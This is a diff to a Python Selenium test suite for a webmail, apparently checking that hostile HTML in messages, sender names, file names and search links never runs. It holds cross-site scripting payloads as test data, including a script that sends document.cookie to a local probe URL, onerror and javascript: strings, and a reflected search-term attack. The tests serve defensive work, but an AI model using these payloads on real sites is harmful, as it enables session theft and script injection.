@@ -40,6 +40,7 @@ Run: BUZON_BIN=.build/debug python3 -m pytest -q Tests/EndToEnd/test_webmail_bro
 from __future__ import annotations
 
 import base64
+import email.utils
 import http.server
 import imaplib
 import os
@@ -291,6 +292,11 @@ def in_frame(driver, action):
         driver.switch_to.default_content()
 
 
+def unread_prefix(title: str) -> str:
+    """A title without its `(3) ` unread count (the page's script keeps that up to date)."""
+    return re.sub(r"^\(\d+\) ", "", title)
+
+
 def what_ran(driver, probe, url: str, title: str) -> list[str]:
     """Every sign that a payload ran or fetched something: the main page moved or retitled,
     `window.PWNED` set, a message posted to it, an alert, the frame's document marked, anything
@@ -301,7 +307,7 @@ def what_ran(driver, probe, url: str, title: str) -> list[str]:
         driver.switch_to.alert.dismiss()
     if driver.current_url != url:
         problems.append(f"the page moved to {driver.current_url}")
-    if driver.title != title:
+    if unread_prefix(driver.title) != unread_prefix(title):
         problems.append(f"the title is {driver.title!r}")
     pwned, posted = driver.execute_script("return [window.PWNED, window.__posted]")
     if pwned is not None:
@@ -384,17 +390,18 @@ def test_the_flag_button_flags_the_message(browser, stack):
 # --- 2. hostile HTML ------------------------------------------------------------------------------
 
 
-def script(name: str) -> str:
+def script(name: str, navigate: bool = True) -> str:
     """What a payload runs: no spaces, double quotes or `>`, so that it fits unquoted attribute
-    values. Each step is observable from outside the frame."""
-    return ("parent.postMessage('PWNED-%(n)s','*');"
-            "document.documentElement.setAttribute('data-pwned','%(n)s');"
-            "try{top.PWNED=1}catch(e){};"
-            "try{top.document.title='PWNED'}catch(e){};"
-            "try{fetch('{P}/fetch')}catch(e){};"
-            "try{new(Image)().src='{P}/cookie?'+document.cookie}catch(e){};"
-            "try{parent.location='{P}/parent'}catch(e){};"
-            "location='{P}/navigate'") % {"n": name}
+    values. Each step is observable from outside the frame. `{P}`: the probe's URL for it."""
+    steps = ["parent.postMessage('PWNED-%s','*')" % name,
+             "document.documentElement.setAttribute('data-pwned','%s')" % name,
+             "try{top.PWNED=1}catch(e){}",
+             "try{top.document.title='PWNED'}catch(e){}",
+             "try{fetch('{P}/fetch')}catch(e){}",
+             "try{new(Image)().src='{P}/cookie?'+document.cookie}catch(e){}"]
+    if navigate:
+        steps += ["try{parent.location='{P}/parent'}catch(e){}", "location='{P}/navigate'"]
+    return ";".join(steps)
 
 
 # name: (HTML after a visible marker, what to click in the frame or None)
@@ -496,19 +503,28 @@ def open_hostile(driver, probe, store, webmail, name: str, body: str, click: str
     return problems
 
 
-def test_control_the_checks_see_a_script_that_runs(browser, probe):
-    """Outside the webmail's sandbox (an ordinary frame of a probe page) the payload's script
-    is caught by the checks: otherwise the tests below would prove nothing."""
+@pytest.mark.parametrize("quiet", [False, True], ids=["navigating", "staying"])
+def test_control_the_checks_see_a_script_that_runs(browser, probe, quiet):
+    """Outside the webmail's sandbox (an ordinary frame from another origin, as the message
+    frame is) the payload's script is caught by the checks: else the tests below prove nothing.
+    The whole script moves the main page; without its two navigations it stays, and the message
+    it posts, the mark on the frame's document and its fetch are seen."""
     name = "control"
-    probe.serve("/control/top.html", '<title>Control</title><iframe src="/control/frame.html"></iframe>')
-    probe.serve("/control/frame.html", hostile_document(name, payload('<img src=x onerror="{S}">', name, probe)))
+    frame = probe.url("localhost") + "/control/frame.html"
+    probe.serve("/control/top.html", f'<title>Control</title><iframe class="html-body" src="{frame}"></iframe>')
+    run = script(name, navigate=not quiet).replace("{P}", f"{probe.url()}/{name}")
+    probe.serve("/control/frame.html", hostile_document(name, f'<img src=x onerror="{run}">'))
     url = probe.url() + "/control/top.html"
     browser.get(url)
-    WebDriverWait(browser, 5).until(lambda d: ("GET", "/control/navigate") in probe.requests())
-    posted = browser.execute_script("return window.__posted")
-    assert posted == [f"PWNED-{name}"], posted
-    assert browser.execute_script("return window.PWNED") == 1 and browser.title == "PWNED"
-    assert ("GET", "/control/fetch") in probe.requests(), probe.requests()
+    WebDriverWait(browser, 5).until(lambda d: ("GET", "/control/fetch") in probe.requests())
+    time.sleep(SETTLE)
+    problems = what_ran(browser, probe, url, "Control")
+    assert any(p.startswith("the remote host saw") for p in problems), problems
+    if quiet:
+        assert f"the main page got messages ['PWNED-{name}']" in problems, problems
+        assert f"the frame's document was marked by ['{name}']" in problems, problems
+    else:
+        assert any(p.startswith("the page moved to") for p in problems), problems
 
 
 @pytest.mark.parametrize("name", sorted(SCRIPTED))
@@ -560,9 +576,11 @@ TEXT_LINES = [
     "https://example.com/<script>alert(7)</script>",
     "<a href=\"javascript:alert(8)\">click</a> <img src=x onerror=alert(9)>",
 ]
-# What the linkifier may make of that: http(s) URLs ended by the first character a URL cannot hold.
-TEXT_LINKS = ["http://x", "http://y/'onmouseover='alert(6)", "https://example.com/"]
-ACTIVE = "img, svg, script, iframe, object, embed, math, [onerror], [onload], [onmouseover], [onfocus]"
+# What the linkifier may make of that: http(s) URLs ended by the first character a URL cannot
+# hold, without the punctuation that closes a sentence (`'` and `)` too: safe, `'` is escaped).
+TEXT_LINKS = ["http://x", "http://y/'onmouseover='alert(6", "https://example.com/"]
+ACTIVE = ('img, svg, script:not([src="/static/app.js"]), iframe, object, embed, math, '
+          "[onerror], [onload], [onmouseover], [onfocus]")
 
 
 def assert_no_markup_came_alive(driver) -> None:
@@ -578,7 +596,7 @@ def assert_no_markup_came_alive(driver) -> None:
 def test_markup_in_subject_sender_file_names_and_text_shows_as_text(browser, probe, stack):
     store, smtp, imap, webmail = stack
     fields = (f"From: {encoded_word(NAME)} <mallory@remote.test>\r\nTo: {ALICE}\r\nSubject: {SUBJECT}\r\n"
-              f"Message-ID: <markup.{time.monotonic_ns()}@remote.test>\r\nDate: Mon, 6 May 2024 10:00:00 +0200\r\n")
+              f"Message-ID: <markup.{time.monotonic_ns()}@remote.test>\r\nDate: {email.utils.formatdate()}\r\n")  # the newest
     raw = (fields + MIME + 'Content-Type: multipart/mixed; boundary="m"\r\n\r\n'
            "--m\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + "\r\n".join(TEXT_LINES) + "\r\n"
            f"--m\r\n{attachment('text/plain', FILENAMES[0], b'one')}"
@@ -611,6 +629,21 @@ def test_markup_in_subject_sender_file_names_and_text_shows_as_text(browser, pro
     assert [a.text for a in links] == TEXT_LINKS
     for a in links:  # an onmouseover smuggled into the link would fire now
         ActionChains(browser).move_to_element(a).perform()
+    time.sleep(SETTLE)
+    assert_no_markup_came_alive(browser)
+    assert probe.seen() == []
+
+
+def test_search_terms_from_a_link_show_as_text(browser, probe, stack):
+    """A link into the webmail whose search carries markup (a reflected attack): the search box
+    and the "found for" line show it as typed."""
+    store, smtp, imap, webmail = stack
+    inbox = inbox_id(store)
+    log_in(browser, webmail)
+    term = f'"><img src=x onerror=alert(1)><script>alert(2)</script>\' <a href="javascript:alert(3)">x</a>'
+    browser.get(f"{webmail.url}/mail/{inbox}?q={quote(term, safe='')}")
+    assert browser.find_element(By.CSS_SELECTOR, 'input[name="q"]').get_attribute("value") == term
+    assert term in browser.find_element(By.CSS_SELECTOR, "p.count").text
     time.sleep(SETTLE)
     assert_no_markup_came_alive(browser)
     assert probe.seen() == []
